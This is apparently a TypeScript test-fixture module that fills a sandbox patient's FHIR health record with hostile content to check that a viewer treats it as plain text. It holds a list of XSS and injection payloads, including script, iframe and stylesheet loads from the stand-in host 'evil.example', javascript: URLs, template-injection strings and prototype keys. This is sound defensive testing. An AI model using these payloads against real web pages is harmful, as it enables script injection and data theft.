import { readFileSync } from 'node:fs'
import { join } from 'node:path'

export type Resource = { readonly resourceType: string; readonly id: string; readonly [member: string]: unknown }
type Json = { readonly [member: string]: unknown }

const CHART = join(import.meta.dirname, '../../src/sandbox/patients/p19-whole-record.json')

/** Host that no page may ever ask. */
export const EVIL = 'evil.example'

/** Each sets a mark in the window when a browser takes it for more than text. */
export const MARKUP: readonly string[] = [
  '<img src=x onerror="window.__ran=1;alert(1)">',
  `</script><script src="https://${EVIL}/x.js"></script><script>window.__ran=1</script>`,
  'javascript:window.__ran=1',
  '"><svg/onload=window.__ran=1>\' onfocus=window.__ran=1 autofocus x="',
  `[tap](javascript:window.__ran=1) ![p](https://${EVIL}/p.png) <https://${EVIL}/a>`,
  '\u202edesrever si siht\u202c \u2066isolate\u0000\u0007',
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><base href="https://${EVIL}/"><meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
  `data:text/html,<script>window.__ran=1</script>`,
  '__proto__',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that a template engine would run
  '{{constructor.constructor("window.__ran=1")()}}${window.__ran=1}',
  `<style>@import "https://${EVIL}/s.css";*{display:none}</style>`,
]
const LONG = 10_000

/** Members that decide whether a resource is found and read at all; words of them are attacked apart. */
const KEPT = new Set(
  'resourceType id reference code system status intent type contentType data valueCode valueDate birthDate date issued authoredOn recordedDate start end use mode gender uid comparator lowerLimit origin period language url address valueUri version'.split(
    ' ',
  ),
)
const isDate = (text: string): boolean => /^\d{4}(-\d\d(-\d\d)?)?(T[\d:.Z+-]+)?$/.test(text)

/** Rewrites every text of a resource. `keep`: by the name of the member that holds it. */
const rewrite = (value: unknown, name: string, change: (text: string, name: string) => unknown): unknown => {
  if (Array.isArray(value)) return value.map((one) => rewrite(one, name, change))
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, rewrite(one, key, change)]))
  return typeof value === 'string' ? change(value, name) : value
}

export const wholeRecord = (JSON.parse(readFileSync(CHART, 'utf8')) as { entry: { resource: Resource }[] }).entry.map(
  ({ resource }) => resource,
)
export const PATIENT = wholeRecord.find(({ resourceType }) => resourceType === 'Patient')?.id ?? ''
const subject = { reference: `Patient/${PATIENT}` }
const concept = (text: string, code = 'c', system = 'urn:x') => ({ text, coding: [{ system, code, display: text }] })

/** Kinds that the patient of the sandbox has none of. */
const FURTHER: readonly Resource[] = [
  {
    resourceType: 'MedicationRequest',
    id: 'h-by-reference',
    status: 'active',
    intent: 'order',
    subject,
    medicationReference: { reference: 'Medication/h-med', display: 'a tablet' },
    dosageInstruction: [{ text: 'one a day', patientInstruction: 'with water', timing: { code: { text: 'daily' } } }],
    requester: { display: 'Dr Somebody' },
    reasonCode: [concept('a reason')],
    note: [{ text: 'a note' }],
  },
  {
    resourceType: 'Medication',
    id: 'h-med',
    code: concept('a tablet'),
    form: concept('tablet'),
    ingredient: [{ itemCodeableConcept: concept('inside') }],
  },
  {
    resourceType: 'Endpoint',
    id: 'h-endpoint',
    status: 'active',
    name: 'pictures',
    connectionType: { system: 'http://terminology.hl7.org/CodeSystem/endpoint-connection-type', code: 'dicom-wado-rs' },
    address: `https://${EVIL}/dicomweb`,
  },
  {
    resourceType: 'ImagingStudy',
    id: 'h-study',
    status: 'available',
    subject,
    started: '2025-01-02',
    identifier: [{ system: 'urn:dicom:uid', value: 'urn:oid:1.2.3.4' }],
    description: 'study',
    modality: [{ code: 'CT', display: 'Computed' }],
    endpoint: [{ reference: 'Endpoint/h-endpoint' }],
    series: [
      {
        uid: '1.2.3.4.5',
        number: 1,
        description: 'series',
        modality: { code: 'CT' },
        bodySite: { display: 'chest' },
        instance: [{ uid: '1.2.3.4.5.6', title: 'one' }],
      },
    ],
  },
  {
    resourceType: 'ServiceRequest',
    id: 'h-request',
    status: 'active',
    intent: 'order',
    subject,
    code: concept('a test'),
    authoredOn: '2026-10-01',
    note: [{ text: 'n' }],
  },
  {
    resourceType: 'Composition',
    id: 'h-composition',
    status: 'final',
    subject,
    type: concept('summary'),
    title: 'summary',
    date: '2026-10-01',
    author: [{ display: 'Dr Author' }],
    section: [
      {
        title: 'History',
        code: concept('section'),
        text: { status: 'generated', div: '<div xmlns="http://www.w3.org/1999/xhtml">words</div>' },
      },
    ],
  },
  {
    resourceType: 'DocumentReference',
    id: 'h-elsewhere',
    status: 'current',
    subject,
    type: concept('note'),
    date: '2026-10-01',
    description: 'a note elsewhere',
    author: [{ display: 'Dr Author' }],
    content: [{ attachment: { contentType: 'text/plain', url: `https://${EVIL}/Binary/1`, title: 'elsewhere' } }],
  },
  {
    resourceType: 'DocumentReference',
    id: 'h-binary',
    status: 'current',
    subject,
    type: concept('note'),
    date: '2026-10-02',
    content: [{ attachment: { contentType: 'text/html', url: 'Binary/h-bytes', title: 'markup' } }],
  },
  { resourceType: 'Binary', id: 'h-bytes', contentType: 'text/html', data: '' },
]

const base64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64')

/** Every word of the record is markup, one in forty ten thousand characters long; codes, dates and references stay, so that all is read. */
export const hostileWords = (): Resource[] => {
  let count = 0
  const next = (): string => {
    count += 1
    const text = MARKUP[count % MARKUP.length] ?? ''
    return count % 40 === 0 ? text + (count % 80 === 0 ? 'W'.repeat(LONG) : 'long '.repeat(LONG / 5)) : text
  }
  const change = (text: string, name: string): string => {
    if (name === 'data' && /^[A-Za-z0-9+/\s]+={0,2}\s*$/.test(text) && !/^[\d\s]+$/.test(text))
      return base64(`${next()}\nNo history of stroke. ${next()}`)
    if (name === 'div') return `<div xmlns="http://www.w3.org/1999/xhtml">${next()}</div>`
    // Words of `type` and `use` that stand as plain text are codes; as the text of a concept they have their own names.
    return KEPT.has(name) || isDate(text) ? text : next()
  }
  return [...wholeRecord, ...FURTHER].map((resource) =>
    resource.resourceType === 'Binary' ? { ...resource, data: base64(MARKUP.join('\n')) } : (rewrite(resource, '', change) as Resource),
  )
}

/** One of each kind of resource, whose codes, units, statuses, addresses and dates are markup as well; only what the search looks at stays. */
export const hostileCodes = (): Resource[] => {
  let count = 0
  const kinds = new Map<string, Resource>()
  for (const resource of [...wholeRecord, ...FURTHER]) {
    const category = JSON.stringify(resource.category ?? '')
    const value = Object.keys(resource)
      .filter((key) => key.startsWith('value') || key === 'component')
      .join()
    if (resource.resourceType !== 'Patient') kinds.set(`${resource.resourceType} ${category} ${value}`, resource)
  }
  const next = (): string => {
    count += 1
    return MARKUP[count % MARKUP.length] ?? ''
  }
  return [...kinds.values()].map((resource, at) => {
    const { resourceType, category } = resource
    const changed = rewrite(resource, '', (text, name) => (name === 'reference' && text.startsWith('Patient/') ? text : next())) as Json
    return {
      ...changed,
      resourceType,
      id: `x-${at}`,
      ...(category === undefined ? {} : { category }),
      ...(at % 2 === 0 ? { status: resource.status } : {}),
    }
  })
}

const WRONG: readonly unknown[] = [7, null, true, [], {}, [null], [[]], { a: { b: 1 } }, -1e308, '', [7, 'x', {}]]

/** Every member of every kind of resource in turn of eleven wrong types, at the top and one level deep; the categories that searches look at stay. */
export const wrongTypes = (): Resource[] => {
  const kinds = new Map<string, Resource>()
  for (const resource of [...wholeRecord, ...FURTHER]) {
    const key = `${resource.resourceType} ${JSON.stringify(resource.category ?? '')} ${Object.keys(resource)
      .filter((one) => one.startsWith('value'))
      .join()}`
    if (!kinds.has(key)) kinds.set(key, resource)
  }
  const skewed = (value: unknown, wrong: unknown): unknown => {
    if (Array.isArray(value)) return value.map((one) => skewed(one, wrong))
    if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.keys(value).map((key) => [key, wrong]))
    return wrong
  }
  const fixed = new Set(['resourceType', 'id', 'subject', 'patient', 'category'])
  const made = [...kinds.values()].flatMap((resource, kind) =>
    WRONG.map((wrong, at): Resource => {
      const members = Object.entries(resource).map(([key, value]): [string, unknown] => {
        if (fixed.has(key)) return [key, value]
        return [key, at % 2 === 0 ? skewed(value, wrong) : wrong]
      })
      const { resourceType, id } = resource
      return { ...Object.fromEntries(members), resourceType, id: resourceType === 'Patient' ? id : `w-${kind}-${at}` }
    }),
  )
  const [patient] = made.filter(({ resourceType }) => resourceType === 'Patient')
  return [...made.filter(({ resourceType }) => resourceType !== 'Patient'), ...(patient ? [patient] : [])]
}
